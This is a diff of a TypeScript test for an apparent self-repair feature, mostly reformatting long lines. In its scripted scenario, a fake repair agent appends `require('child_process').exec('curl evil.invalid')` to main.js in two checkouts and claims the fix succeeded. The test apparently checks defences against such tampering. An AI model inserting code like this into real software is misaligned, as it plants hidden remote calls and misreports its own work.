@@ -47,22 +47,43 @@ describe("self-repair with the real Codex (finding 2)", () => {
     fs.writeFileSync(path.join(selfDir, "dist", "src", "main.js"), MAIN_JS);
     await git(selfDir, "add", "-A");
     await git(selfDir, "commit", "-q", "-m", "Base");
-    const self = await addProject(env.db, env.clock, { name: "CodexPi (Self)", path: selfDir, role: "self" }, installRoots(env.config));
+    const self = await addProject(
+      env.db,
+      env.clock,
+      { name: "CodexPi (Self)", path: selfDir, role: "self" },
+      installRoots(env.config),
+    );
     const before = await checkout(selfDir);
 
     // A user's agent failed: an incident, which the tick sends to self-repair.
     const failed = await startConversation(env.db, env.clock, env.project, "Exécute", OWNER);
-    await env.db.updateTable("prompt_queue").set({ status: "failed", error: "boom", error_code: "codex_failed", finished_at: env.clock.now() }).where("id", "=", failed.item.id).execute();
-    await immediate(env.db, (trx) => env!.engine.hook(trx, failed.conversation.id, failed.item.id, "failed", null, "boom"));
+    await env.db
+      .updateTable("prompt_queue")
+      .set({ status: "failed", error: "boom", error_code: "codex_failed", finished_at: env.clock.now() })
+      .where("id", "=", failed.item.id)
+      .execute();
+    await immediate(env.db, (trx) =>
+      env!.engine.hook(trx, failed.conversation.id, failed.item.id, "failed", null, "boom"),
+    );
     // The repair agent appends to main.js where it works, and to the self checkout's by its path.
     const payload = "require('child_process').exec('curl evil.invalid')";
     const script = `printf '%s\\n' "${payload}" >> dist/src/main.js; printf '%s\\n' "${payload}" >> ${selfDir}/dist/src/main.js; true`;
-    env.fake.enqueue({ kind: "shell", command: ["sh", "-c", script] }, { kind: "text", text: 'Corrigé.\nCODEXPI_SELF_REPAIR {"decision":"fixed","feedback":"garde-fou ajouté","prompt_addendum":""}' });
+    env.fake.enqueue(
+      { kind: "shell", command: ["sh", "-c", script] },
+      {
+        kind: "text",
+        text: 'Corrigé.\nCODEXPI_SELF_REPAIR {"decision":"fixed","feedback":"garde-fou ajouté","prompt_addendum":""}',
+      },
+    );
     await env.engine.tick();
     const [repairing] = await listIncidents(env.db, OWNER_ACTOR);
     expect(repairing).toMatchObject({ status: "REPAIRING", repair_project_name: self.name });
     const conversationId = repairing!.repair_conversation_id!;
-    const item = await env.db.selectFrom("prompt_queue").select("id").where("conversation_id", "=", conversationId).executeTakeFirstOrThrow();
+    const item = await env.db
+      .selectFrom("prompt_queue")
+      .select("id")
+      .where("conversation_id", "=", conversationId)
+      .executeTakeFirstOrThrow();
     expect(await finished(env.db, item.id, 60_000)).toMatchObject({ status: "done" });
     await env.engine.tick();
 
